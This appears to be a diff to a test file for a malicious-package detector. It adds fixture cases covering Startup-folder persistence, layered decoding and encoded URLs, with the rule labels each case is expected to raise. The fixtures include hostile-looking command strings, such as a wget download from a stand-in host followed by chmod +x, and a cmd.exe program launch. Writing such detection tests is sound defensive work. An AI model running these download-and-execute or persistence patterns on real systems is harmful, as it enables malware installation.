@@ -39,6 +39,7 @@ WRITE = fact(Kind.FS_WRITE, "/x/run.exe", moment=CALL)
 PROGRAM = fact(Kind.PROCESS_SPAWN, "start cmd.exe /c start /x/run.exe", 2, moment=CALL)
 SCRIPT = fact(Kind.PROCESS_SPAWN, "node /x/run.js", 2, moment=CALL)
 UNPACKED = fact(Kind.PROCESS_SPAWN, "wget -q https://files.invalid/x -O y && chmod +x y", moment=CALL)
+STARTED = ["starts-program"]
 LAYERED = fact(Kind.DECODE, "id", moment=CALL, via="base64>zlib>rot13>base64")
 
 
@@ -62,12 +63,17 @@ LAYERED = fact(Kind.DECODE, "id", moment=CALL, via="base64>zlib>rot13>base64")
         (called(WRITE, SCRIPT, flow="data"), []),
         (called(WRITE, fact(Kind.PROCESS_SPAWN, "node /x/run.js", 2), flow="data"), ["load-starts", "starts-program"]),
         (called(WRITE, fact(Kind.PROCESS_SPAWN, "cmd.exe /c dir", 2, moment=CALL), flow="data"), []),
+        (called(WRITE, fact(Kind.PROCESS_SPAWN, "git add x.py", 2), flow="data"), []),
         (called(UNPACKED), ["starts-program"]),
+        (called(NET, fact(Kind.FS_WRITE, "/x/Startup/y", 2), fact(Kind.PERSIST, None, 2), flow="data"), STARTED),
+        (called(NET, fact(Kind.FS_WRITE, "/x/Startup/y", 2), fact(Kind.PERSIST, None, 3), flow="data"), []),
+        (called(NET, fact(Kind.FS_WRITE, "/x/Startup/y", 2), fact(Kind.PERSIST, None, 2), flow="near"), []),
         (called(fact(Kind.PROCESS_SPAWN, "chmod +x /x/run", moment=CALL)), []),
         (called(LAYERED, EVAL, flow="near"), ["executes-layers"]),
         (called(LAYERED, EVAL, flow="near", path="docs/index.js"), []),
         (called(fact(Kind.LITERAL_URL, "https://a.invalid", via="base64")), ["address-encoded"]),
         (called(fact(Kind.LITERAL_URL, "https://a.invalid", via="base64>zlib")), []),
+        (called(fact(Kind.LITERAL_URL, "https://a.invalid", moment=CALL, via="base64>zlib")), ["address-encoded"]),
         (called(fact(Kind.NET_CONNECT, "https://a.invalid", moment=CALL, via="xor")), ["address-encoded"]),
         (called(fact(Kind.PROCESS_SPAWN, "python3 -c 'import x'")), ["load-starts-code"]),
         (called(fact(Kind.PROCESS_SPAWN, "pythonw deps.pyw")), ["load-starts-code"]),
